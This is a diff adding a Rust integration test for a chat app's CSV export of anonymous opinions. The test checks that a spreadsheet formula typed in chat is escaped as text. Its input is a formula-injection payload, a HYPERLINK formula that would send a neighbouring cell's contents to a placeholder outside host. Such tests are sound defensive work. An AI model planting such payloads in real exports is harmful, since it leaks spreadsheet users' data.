@@ -470,7 +470,40 @@ async fn an_export_too_large_to_send_is_explained_instead(backend: Backend) {
     app.shutdown().await;
 }
 
+async fn a_formula_typed_in_chat_reaches_the_csv_as_text(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let mut mai = app.joined(732, "Phạm Thị Mai", BRANCH, Role::Member).await;
+    mai.send("/ykien").await.unwrap();
+    mai.send("=HYPERLINK(\"http://x.example/?\"&A2,\"Xem\")")
+        .await
+        .unwrap();
+    mai.tap("Gửi ẩn danh").await.unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("y-kien.csv");
+    let config = chihoi::config::Config::from_lookup(|_| None).unwrap();
+    let n = chihoi::app::export_reports(
+        &app.store,
+        &config,
+        "2026-11".parse().unwrap(),
+        None,
+        chihoi::export::ExportFormat::Csv,
+        chihoi::export::Sheet::Opinions,
+        chihoi::i18n::Lang::Vi,
+        &out,
+    )
+    .await
+    .unwrap();
+    assert_eq!(n, 1);
+    let bytes = std::fs::read(&out).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = row.iter().last().unwrap();
+    assert_eq!(cell, "'=HYPERLINK(\"http://x.example/?\"&A2,\"Xem\")");
+    app.shutdown().await;
+}
+
 both_backends!(
+    a_formula_typed_in_chat_reaches_the_csv_as_text,
     completeness_rolls_up_across_levels_and_stays_in_her_subtree,
     logged_activities_count_towards_targets_shown_worst_first,
     charts_and_exports_arrive_as_files_that_open,
